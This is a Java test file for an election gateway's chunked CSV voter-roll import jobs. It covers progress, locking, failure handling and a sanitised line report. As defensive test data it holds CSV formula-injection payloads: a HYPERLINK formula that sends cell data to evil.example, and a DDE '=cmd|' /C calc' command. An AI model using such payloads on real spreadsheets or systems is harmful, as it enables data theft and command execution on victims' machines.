package fr.sesame.gateway.http;

import static fr.sesame.gateway.support.TestGateway.ADMIN;
import static org.assertj.core.api.Assertions.assertThat;

import fr.sesame.gateway.roll.RollImportJobs;
import fr.sesame.gateway.store.redis.RedisImportJobStore;
import fr.sesame.gateway.store.redis.RedisKeys;
import fr.sesame.gateway.support.TestGateway;
import fr.sesame.redis.RedisAccess;
import fr.sesame.testkit.Await;
import fr.sesame.testkit.Http;
import fr.sesame.testkit.TestRedis;
import io.vertx.core.json.JsonObject;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.StringReader;
import java.net.Socket;
import java.net.SocketException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.function.Predicate;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * Issue 15, points 3 and 9: the roll import as a job ({@code POST /v1/admin/elections/{id}/imports}). The body is
 * sent in chunks on a raw socket, each one only once the test has read what the previous one did, so what the
 * job shows between two chunks is known exactly: the server cannot have read past what was sent. Waits are on
 * the job's record changing in Redis (keyspace events), never on time.
 */
class RollImportJobTest {
  static final String HEADER = "identifier,college,lastName,firstName,birthDate,email,phone,secret";
  private static final Duration WAIT = Duration.ofSeconds(60);
  @RegisterExtension
  // its own Redis: its rolls (170,000 voters) would make every other test that reads the whole keyspace slow
  static final TestGateway gw = TestGateway.isolated();
  private static io.lettuce.core.api.sync.RedisCommands<String, String> redis() {
    return gw.redis();
  }

  private static String emptyElection() {
    String el = TestGateway.newElectionId();
    Http.Res put = gw.http.put("/v1/admin/elections/" + el, ADMIN, TestGateway.electionBody(
        gw.clock.instant().minus(Duration.ofDays(1)), gw.clock.instant().plus(Duration.ofDays(1))));
    assertThat(put.status()).as(put.body()).isEqualTo(201);
    return el;
  }

  /**
   * Voters {@code from} to {@code to - 1}: an email each, but every 100th an outside member with none (imported,
   * unreachable); with {@code rejects}, every 1,000th has an unknown college, one repeats an identifier and one
   * has an identifier a spreadsheet would run (never echoed).
   */
  private static String lines(int from, int to, boolean rejects) {
    StringBuilder csv = new StringBuilder();
    for (int i = from; i < to; i++) {
      if (rejects && i % 1_000 == 7) {
        csv.append("v").append(i).append(",=HYPERLINK(\"\"http://evil.example\"\"),N,P,,,,1234\n");
      } else if (i % 100 == 3) {
        csv.append("v").append(i).append(",externes,Nom,Prenom,1990-06-15,,,\n");
      } else {
        csv.append("v").append(i).append(",etudiants,Nom,Prenom,,v").append(i).append("@univ-test.fr,,2023")
            .append(String.format(Locale.ROOT, "%04d", i % 10_000)).append('\n');
      }
    }
    if (rejects) {
      csv.append("v").append(from).append(",etudiants,Nom,Prenom,,,,20230000\n"); // a duplicate
      csv.append("=cmd|' /C calc'!A0,etudiants,Nom,Prenom,,,,20230000\n");      // not an identifier
    }
    return csv.toString();
  }

  private static String job(String el, String jobId) {
    return "/v1/admin/elections/" + el + "/imports/" + jobId;
  }

  private static JsonObject progress(String el, String jobId) {
    Http.Res r = gw.http.get(job(el, jobId), ADMIN);
    assertThat(r.status()).as(r.body()).isEqualTo(200);
    return r.json();
  }

  /** Reads the job until {@code done} accepts it, once now and after each change to its record. */
  private static JsonObject awaitJob(String el, String jobId, Predicate<JsonObject> done, String what) {
    return TestRedis.readUntil(gw.redisUrl, TestRedis.literal(RedisKeys.importJob(el, jobId)), () -> progress(el, jobId), done,
        WAIT, what);
  }

  private static JsonObject awaitEnd(String el, String jobId) {
    return awaitJob(el, jobId, j -> !j.getString("status").equals("running"), "the job's end");
  }

  private static Http.Res startImport(String el, String csv) {
    return gw.http.postRaw("/v1/admin/elections/" + el + "/imports", ADMIN, "text/csv",
        csv.getBytes(StandardCharsets.UTF_8));
  }

  @Test
  void progressIsReadableWhileTheUploadRunsAndTheFinalReportIsTheSynchronousOne() throws IOException {
    String el = emptyElection();
    String first = HEADER + "\n" + lines(0, 20_000, false); // 20,000 valid voters: 40 batches, none pending
    String second = lines(20_000, 50_000, true);
    try (ChunkedUpload upload = new ChunkedUpload(el)) {
      upload.chunk(first);
      Answer started = upload.answer();
      assertThat(started.status()).as(started.body()).isEqualTo(202);
      String jobId = new JsonObject(started.body()).getString("jobId");
      assertThat(new JsonObject(started.body()).getString("status")).isEqualTo("running");
      assertThat(started.headers().get("location")).isEqualTo(job(el, jobId));

      // what the first chunk holds, and no more: the rest has not been sent
      JsonObject halfway = awaitJob(el, jobId, j -> j.getLong("linesRead") == 20_001, "the first chunk imported");
      assertThat(halfway.getString("status")).isEqualTo("running");
      assertThat(halfway.getLong("imported")).isEqualTo(20_000);
      assertThat(halfway.getLong("created")).isEqualTo(20_000);
      assertThat(halfway.getLong("rejected")).isZero();
      assertThat(halfway.getLong("unreachable")).isEqualTo(200);
      assertThat(halfway.getValue("finishedAt")).isNull();
      assertThat(halfway.containsKey("report")).isFalse();
      assertThat(gw.status(el, "v19999").status()).isEqualTo(200);
      assertThat(gw.status(el, "v20000").status()).isEqualTo(404);
      // the line report so far
      List<CSVRecord> soFar = csv(gw.http.get(job(el, jobId) + "/report.csv", ADMIN).body());
      assertThat(soFar).hasSize(20_001);
      assertThat(soFar.get(20_000).toList()).containsExactly("20001", "v19999", "created", "");

      upload.chunk(second);
      upload.end();
      JsonObject done = awaitEnd(el, jobId);
      assertThat(done.getString("status")).as(done.encode()).isEqualTo("done");
      assertThat(done.getLong("linesRead")).isEqualTo(50_003);
      assertThat(done.getLong("imported")).isEqualTo(49_970);
      assertThat(done.getLong("rejected")).isEqualTo(32);
      assertThat(done.getString("finishedAt")).isNotNull();
      assertThat(upload.open()).as("a job that ended well leaves its connection open").isTrue();
      // every line told once, in the roll's order (batches are parsed while the one before is written, and told in
      // order)
      List<CSVRecord> all = csv(gw.http.get(job(el, jobId) + "/report.csv", ADMIN).body());
      assertThat(all).hasSize(50_003);
      for (int i = 1; i < all.size(); i++) {
        assertThat(all.get(i).get(0)).isEqualTo(Integer.toString(i + 1));
      }
      assertThat(all.get(50_002).toList()).containsExactly("50003", "", "rejected",
          "bad identifier (1 to 128 of A-Z a-z 0-9 . _ @ + -)");
      assertThat(all.get(50_001).toList()).containsExactly("50002", "v20000", "rejected",
          "duplicate identifier in this roll");

      // the same file through the synchronous route, into another election: the same report
      String other = emptyElection();
      Http.Res sync = gw.importRoll(other, first + second);
      assertThat(sync.status()).as(sync.body()).isEqualTo(200);
      assertThat(done.getJsonObject("report")).isEqualTo(sync.json());
      assertThat(done.getJsonObject("report").getLong("unreachableCount")).isEqualTo(500);

      // audited: the start, then the end as a synchronous import's, both naming the job
      List<JsonObject> audited = audit(el).stream().filter(e -> e.getString("type").startsWith("roll.import"))
          .toList();
      assertThat(audited).extracting(e -> e.getString("type")).containsExactly("roll.import.start", "roll.import");
      assertThat(audited).allSatisfy(e -> assertThat(e.getJsonObject("d").getString("jobId")).isEqualTo(jobId));
      assertThat(audited.get(1).getString("outcome")).isEqualTo("partial");
      assertThat(audited.get(1).getJsonObject("d").getLong("imported")).isEqualTo(49_970);
    }
  }

  @Test
  void aSecondImportWhileOneRunsGets409AndChangesNothing() throws IOException {
    String el = emptyElection();
    try (ChunkedUpload upload = new ChunkedUpload(el)) {
      upload.chunk(HEADER + "\n" + lines(0, 1_000, false));
      String jobId = new JsonObject(upload.answer().body()).getString("jobId");
      awaitJob(el, jobId, j -> j.getLong("linesRead") == 1_001, "the first chunk imported");
      List<JsonObject> auditBefore = audit(el);

      String intruder = HEADER + "\nintruder,etudiants,Nom,Prenom,,,,20239999\n";
      Http.Res job = startImport(el, intruder);
      assertThat(job.status()).as(job.body()).isEqualTo(409);
      assertThat(job.problemType()).isEqualTo("/problems/import-in-progress");
      assertThat(job.json().getString("jobId")).isEqualTo(jobId);
      Http.Res sync = gw.importRoll(el, intruder);
      assertThat(sync.status()).as(sync.body()).isEqualTo(409);
      assertThat(sync.problemType()).isEqualTo("/problems/import-in-progress");
      // nothing read, written or audited; the running job goes on as it was
      assertThat(gw.status(el, "intruder").status()).isEqualTo(404);
      assertThat(audit(el)).isEqualTo(auditBefore);
      assertThat(progress(el, jobId).getLong("linesRead")).isEqualTo(1_001);

      upload.chunk(lines(1_000, 1_500, false));
      upload.end();
      assertThat(awaitEnd(el, jobId).getLong("imported")).isEqualTo(1_500);
    }
    // the lock went with the job: the next import runs, either way
    assertThat(gw.importRoll(el, HEADER + "\nafter,etudiants,Nom,Prenom,,,,20239999\n").status()).isEqualTo(200);
    Http.Res next = startImport(el, HEADER + "\nnext,etudiants,Nom,Prenom,,,,20239998\n");
    assertThat(next.status()).as(next.body()).isEqualTo(202);
    assertThat(awaitEnd(el, next.json().getString("jobId")).getString("status")).isEqualTo("done");
  }

  /**
   * CSV (formula) injection: each cell of the line report a spreadsheet would run (=, +, -, @, tab, CR) gets a
   * leading '; a cell that is not a valid identifier is not echoed at all.
   */
  @Test
  void theLineReportIsAnAttachmentWhoseCellsRunNoFormula() {
    String el = emptyElection();
    String roll = String.join("\n", HEADER,
        "-2+3,externes,N,P,1990-06-15,a@univ-test.fr,,",                          // 2 created
        "@SUM,externes,N,P,1990-06-15,,,",                                         // 3 created, unreachable
        "+33612345678,etudiants,N,P,,b@univ-test.fr,,20231234",                   // 4 created
        "x1,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",N,P,,,,1234",         // 5 unknown college
        "=cmd|' /C calc'!A0,etudiants,N,P,,,,20231234",                           // 6 bad identifier
        "-2+3,externes,N,P,1990-06-15,,,",                                         // 7 duplicate
        "");
    Http.Res started = startImport(el, roll);
    assertThat(started.status()).as(started.body()).isEqualTo(202);
    String jobId = started.json().getString("jobId");
    assertThat(awaitEnd(el, jobId).getString("status")).isEqualTo("done");

    Http.Res r = gw.http.get(job(el, jobId) + "/report.csv", ADMIN);
    assertThat(r.status()).isEqualTo(200);
    assertThat(r.contentType()).isEqualTo("text/csv; charset=utf-8");
    assertThat(r.headers().get("Content-Disposition")).isEqualTo("attachment; filename=\"import-" + jobId + ".csv\"");
    List<CSVRecord> records = csv(r.body());
    assertThat(records.get(0).toList()).containsExactly("line", "identifier", "outcome", "reason");
    assertThat(records.stream().skip(1).flatMap(rec -> rec.toList().stream())).isNotEmpty()
        .allSatisfy(cell -> assertThat(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
            .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r"));
    Map<String, List<String>> byLine = new LinkedHashMap<>();
    records.stream().skip(1).forEach(rec -> byLine.put(rec.get(0), rec.toList()));
    assertThat(byLine).containsOnlyKeys("2", "3", "4", "5", "6", "7");
    assertThat(byLine.get("2")).containsExactly("2", "'-2+3", "created", "");
    assertThat(byLine.get("3")).containsExactly("3", "'@SUM", "created",
        "no contact on the roll for any channel of the college: login will answer no-destination");
    assertThat(byLine.get("4")).containsExactly("4", "'+33612345678", "created", "");
    assertThat(byLine.get("5")).containsExactly("5", "x1", "rejected",
        "unknown college ''=HYPERLINK(\"http://evil.example/?\"&A1)'");
    assertThat(byLine.get("6")).containsExactly("6", "", "rejected", "bad identifier (1 to 128 of A-Z a-z 0-9 . _ @ + -)");
    assertThat(byLine.get("7")).containsExactly("7", "'-2+3", "rejected", "duplicate identifier in this roll");
    assertThat(r.body()).doesNotContain("cmd|");

    // a second import of the same roll updates: the report says so
    Http.Res again = startImport(el, roll);
    String second = again.json().getString("jobId");
    assertThat(awaitEnd(el, second).getLong("updated")).isEqualTo(3);
    assertThat(csv(gw.http.get(job(el, second) + "/report.csv", ADMIN).body()).get(1).toList())
        .containsExactly("2", "'-2+3", "updated", "");
  }

  @Test
  void anUnknownJobOrAnotherElectionsJobIsNotFound() {
    String el = emptyElection();
    String jobId = startImport(el, HEADER + "\na1,etudiants,N,P,,,,20231234\n").json().getString("jobId");
    awaitEnd(el, jobId);
    String other = emptyElection();
    for (String path : List.of(job(el, "no-such-job"), job(other, jobId), job(el, "a.b"), job(el, "x".repeat(65)),
        job(el, "no-such-job") + "/report.csv", job(other, jobId) + "/report.csv")) {
      Http.Res r = gw.http.get(path, ADMIN);
      assertThat(r.status()).as(path + " " + r.body()).isEqualTo(404);
      assertThat(r.problemType()).as(path).isEqualTo("/problems/import-not-found");
    }
    Http.Res noElection = gw.http.get(job("no-such-election", jobId), ADMIN);
    assertThat(noElection.status()).isEqualTo(404);
    assertThat(noElection.problemType()).isEqualTo("/problems/election-not-found");
    assertThat(gw.http.get(job(el, jobId), TestGateway.SUPPORT).status()).isEqualTo(403);
    assertThat(gw.http.get(job(el, jobId), ADMIN).status()).isEqualTo(200);
  }

  @Test
  void aRollRefusedAtItsHeaderIsAnsweredAsTheSynchronousRouteDoesAndRecordsNoJob() {
    String el = emptyElection();
    Http.Res header = startImport(el, "id,college\nalice,etudiants\n");
    assertThat(header.status()).as(header.body()).isEqualTo(400);
    assertThat(header.problemType()).isEqualTo("/problems/validation-failed");
    assertThat(startImport(el, "").status()).isEqualTo(400);
    Http.Res json = gw.http.postRaw("/v1/admin/elections/" + el + "/imports", ADMIN, "application/json",
        "{}".getBytes(StandardCharsets.UTF_8));
    assertThat(json.status()).isEqualTo(415);
    assertThat(startImport("no-such-election", HEADER + "\n").status()).isEqualTo(404);
    assertThat(redis().keys(TestRedis.literal(RedisKeys.importLock(el)) + "*")).isEmpty();
    assertThat(audit(el)).noneMatch(e -> e.getString("type").startsWith("roll.import"));
  }

  /**
   * A roll that breaks after the answer (a line over 8 KiB, {@code RollImport}'s bound on what it holds) fails the job, which says why; the rest of the upload
   * is not read (the connection closes), the voters written stay, the lock is released and the end is audited.
   */
  @Test
  void aRollThatBreaksMidwayFailsTheJobAndReleasesTheLock() throws IOException {
    String el = emptyElection();
    String jobId;
    try (ChunkedUpload upload = new ChunkedUpload(el)) {
      upload.chunk(HEADER + "\n" + lines(0, 600, false));
      jobId = new JsonObject(upload.answer().body()).getString("jobId");
      awaitJob(el, jobId, j -> j.getLong("imported") == 500, "the first batch imported");
      // longer than any one read off the socket: the parser holds more than 8 KiB of it without a line's end
      upload.chunkTheServerMayCut("v600,etudiants,Nom," + "x".repeat(200_000) + ",,,,20231234\n"
          + lines(601, 700, false));
      JsonObject failed = awaitEnd(el, jobId);
      assertThat(failed.getString("status")).isEqualTo("failed");
      assertThat(failed.getJsonObject("error").getString("type")).isEqualTo("/problems/validation-failed");
      assertThat(failed.getJsonObject("error").getString("detail")).isEqualTo("line 602 is longer than 8192 bytes");
      assertThat(failed.getLong("imported")).isEqualTo(500);
      assertThat(failed.getString("finishedAt")).isNotNull();
      assertThat(upload.closedByServer()).as("the rest of the upload is not read").isTrue();
    }
    assertThat(gw.status(el, "v499").status()).isEqualTo(200);
    JsonObject end = audit(el).stream().filter(e -> e.getString("type").equals("roll.import")).findFirst()
        .orElseThrow();
    assertThat(end.getString("outcome")).isEqualTo("failed");
    assertThat(end.getJsonObject("d").getString("problem")).isEqualTo("/problems/validation-failed");
    assertThat(end.getJsonObject("d").getString("jobId")).isEqualTo(jobId);
    assertThat(gw.importRoll(el, HEADER + "\nafter,etudiants,Nom,Prenom,,,,20239999\n").status()).isEqualTo(200);
  }

  /**
   * Broken chunked framing while the import waits for its lock: Vert.x tells the request's failure once, as it
   * closes the connection, so the answer must be written then (HostileRequestFuzzTest found the synchronous route
   * answering nothing, its import waiting for ever for an end, holding the lock). Both routes answer 400
   * {@code malformed-request}; no job is recorded, and the lock is released.
   */
  @Test
  void brokenFramingBeforeTheHeaderIsAnsweredOnBothRoutes() throws IOException {
    String el = emptyElection();
    for (String route : List.of("voters", "imports")) {
      for (String body : List.of("zz\r\nabc\r\n0\r\n\r\n", "5\r\nabc\r\n0\r\n\r\n")) {
        try (Socket socket = new Socket("127.0.0.1", gw.gateway.port())) {
          socket.setSoTimeout((int) WAIT.toMillis());
          socket.getOutputStream().write(("POST /v1/admin/elections/" + el + "/" + route + " HTTP/1.1\r\n"
              + "Host: localhost\r\nAuthorization: Bearer " + ADMIN + "\r\nContent-Type: text/csv\r\n"
              + "Transfer-Encoding: chunked\r\n\r\n" + body).getBytes(StandardCharsets.ISO_8859_1));
          String answer = new String(socket.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1);
          assertThat(answer).as(route + " " + body).startsWith("HTTP/1.1 400").contains("/problems/malformed-request");
        }
      }
    }
    // the imports that waited for the lock meanwhile meet the failure too, and release it
    String lock = RedisKeys.importLock(el);
    TestRedis.readUntil(gw.redisUrl, TestRedis.literal(lock), () -> redis().exists(lock), n -> n == 0, WAIT,
        "the lock released");
    assertThat(redis().keys(TestRedis.literal(lock) + "*")).isEmpty();
    assertThat(audit(el)).noneMatch(e -> e.getString("type").startsWith("roll.import"));
    assertThat(startImport(el, HEADER + "\nafter,etudiants,Nom,Prenom,,,,20239999\n").status()).isEqualTo(202);
  }

  /**
   * A client that sends the whole roll, reads its 202 and closes the connection at once (curl does), long before
   * the import is through: the rest of the roll is imported all the same. It was not when the import held the
   * upload back: the end of the body waited in the connection's buffers, and Vert.x told the close first.
   */
  @Test
  void aClientThatClosesOnceItHasSentTheRollLosesNothing() throws IOException {
    String el = emptyElection();
    String jobId;
    try (ChunkedUpload upload = new ChunkedUpload(el)) {
      upload.chunk(HEADER + "\n" + lines(0, 100_000, false));
      upload.end();
      Answer started = upload.answer();
      assertThat(started.status()).as(started.body()).isEqualTo(202);
      jobId = new JsonObject(started.body()).getString("jobId");
    }
    JsonObject done = awaitEnd(el, jobId);
    assertThat(done.getString("status")).as(done.encode()).isEqualTo("done");
    assertThat(done.getLong("imported")).isEqualTo(100_000);
  }

  @Test
  void anUploadCutOffFailsTheJobAndReleasesTheLock() throws IOException {
    String el = emptyElection();
    String jobId;
    try (ChunkedUpload upload = new ChunkedUpload(el)) {
      upload.chunk(HEADER + "\n" + lines(0, 700, false));
      jobId = new JsonObject(upload.answer().body()).getString("jobId");
      awaitJob(el, jobId, j -> j.getLong("imported") == 500, "the first batch imported");
    } // closed mid-body
    JsonObject failed = awaitEnd(el, jobId);
    assertThat(failed.getString("status")).isEqualTo("failed");
    assertThat(failed.getJsonObject("error").getString("detail")).startsWith("the upload broke off");
    assertThat(startImport(el, HEADER + "\nafter,etudiants,Nom,Prenom,,,,20239999\n").status()).isEqualTo(202);
  }

  /**
   * A gateway that stops mid-import leaves its lock and its job "running": the lock holds for its lease, then the
   * next import takes it over, and the job reads as failed. Played with the store, as a stopped gateway left it.
   */
  @Test
  void aCrashedImportBlocksTheNextOnlyUntilItsLeaseRunsOut() {
    String el = emptyElection();
    try (var connection = TestRedis.connect(gw.redisUrl)) {
      crashedImport(el, new RedisImportJobStore(new RedisAccess(connection.async())));
    }
  }

  private static void crashedImport(String el, RedisImportJobStore store) {
    long now = gw.clock.millis();
    assertThat(Await.await(store.lock(el, "crashed", now, now + RollImportJobs.LEASE.toMillis()))).isEmpty();
    Http.Res blocked = startImport(el, HEADER + "\nv1,etudiants,Nom,Prenom,,,,20231234\n");
    assertThat(blocked.status()).isEqualTo(409);
    assertThat(blocked.json().containsKey("jobId")).as("the holder is no job yet").isFalse();
    assertThat(Await.await(store.begin(el, "crashed", now, RollImportJobs.KEPT.toMillis()))).isTrue();
    assertThat(startImport(el, HEADER + "\n").json().getString("jobId")).isEqualTo("crashed");
    assertThat(progress(el, "crashed").getString("status")).isEqualTo("running");

    gw.clock.advance(RollImportJobs.LEASE.plusSeconds(1));
    JsonObject crashed = progress(el, "crashed");
    assertThat(crashed.getString("status")).isEqualTo("failed");
    assertThat(crashed.getValue("finishedAt")).isNull();
    assertThat(crashed.getJsonObject("error").getString("detail")).startsWith("interrupted");
    Http.Res next = startImport(el, HEADER + "\nv1,etudiants,Nom,Prenom,,,,20231234\n");
    assertThat(next.status()).as(next.body()).isEqualTo(202);
    assertThat(awaitEnd(el, next.json().getString("jobId")).getLong("imported")).isEqualTo(1);
  }

  private static List<JsonObject> audit(String el) {
    Http.Res r = gw.http.get("/v1/admin/elections/" + el + "/audit", ADMIN);
    assertThat(r.status()).isEqualTo(200);
    return Arrays.stream(r.body().split("\n")).filter(s -> !s.isBlank()).map(JsonObject::new)
        .map(e -> e.getJsonObject("event")).toList();
  }

  private static List<CSVRecord> csv(String body) {
    try (var parser = CSVFormat.RFC4180.parse(new StringReader(body))) {
      return parser.getRecords();
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
  }

  /** An answer read off the socket: status, headers with lower-case names, body. */
  private record Answer(int status, Map<String, String> headers, String body) {}

  /**
   * {@code POST .../imports} on a raw socket, its body chunked ({@code Transfer-Encoding: chunked}) and sent a
   * chunk at a time when the test says so: what the gateway has read is exactly what was sent.
   */
  private static final class ChunkedUpload implements AutoCloseable {
    private final Socket socket;
    private final OutputStream out;
    private final InputStream in;

    ChunkedUpload(String el) throws IOException {
      socket = new Socket("127.0.0.1", gw.gateway.port());
      socket.setSoTimeout((int) WAIT.toMillis());
      out = socket.getOutputStream();
      in = socket.getInputStream();
      out.write(("POST /v1/admin/elections/" + el + "/imports HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer "
          + ADMIN + "\r\nContent-Type: text/csv\r\nTransfer-Encoding: chunked\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
      out.flush();
    }

    void chunk(String text) throws IOException {
      byte[] data = text.getBytes(StandardCharsets.UTF_8);
      out.write((Integer.toHexString(data.length) + "\r\n").getBytes(StandardCharsets.US_ASCII));
      out.write(data);
      out.write("\r\n".getBytes(StandardCharsets.US_ASCII));
      out.flush();
    }

    /**
     * A chunk the gateway is expected to refuse part-way: it fails the job and closes the connection without reading
     * the rest, so the write may end in a broken pipe or a reset (CI saw it on 2026-11-30), which is that refusal.
     */
    void chunkTheServerMayCut(String text) throws IOException {
      try {
        chunk(text);
      } catch (SocketException e) {
        // the gateway closed the connection before the chunk was written: closedByServer() says so
      }
    }

        void end() throws IOException {
      out.write("0\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
      out.flush();
    }

    /** The answer's head and its body (by its Content-Length). */
    Answer answer() throws IOException {
      ByteArrayOutputStream head = new ByteArrayOutputStream();
      while (!head.toString(StandardCharsets.ISO_8859_1).endsWith("\r\n\r\n")) {
        int b = in.read();
        if (b < 0) {
          throw new IOException("closed before the answer's head: " + head);
        }
        head.write(b);
      }
      String[] lines = head.toString(StandardCharsets.ISO_8859_1).split("\r\n");
      Map<String, String> headers = new LinkedHashMap<>();
      for (int i = 1; i < lines.length; i++) {
        String[] kv = lines[i].split(":", 2);
        headers.put(kv[0].strip().toLowerCase(Locale.ROOT), kv[1].strip());
      }
      byte[] body = in.readNBytes(Integer.parseInt(headers.getOrDefault("content-length", "0")));
      return new Answer(Integer.parseInt(lines[0].split(" ")[1]), headers, new String(body, StandardCharsets.UTF_8));
    }

    /** Whether the gateway closed the connection (read to its end, or reset). */
    boolean closedByServer() throws IOException {
      try {
        return in.read() < 0;
      } catch (SocketException e) {
        return true;
      }
    }

    /** Whether the connection is still open: a request on it is answered. */
    boolean open() throws IOException {
      out.write("GET /health/live HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
      out.flush();
      return answer().status() == 200;
    }

    @Override
    public void close() throws IOException {
      socket.close();
    }
  }
}
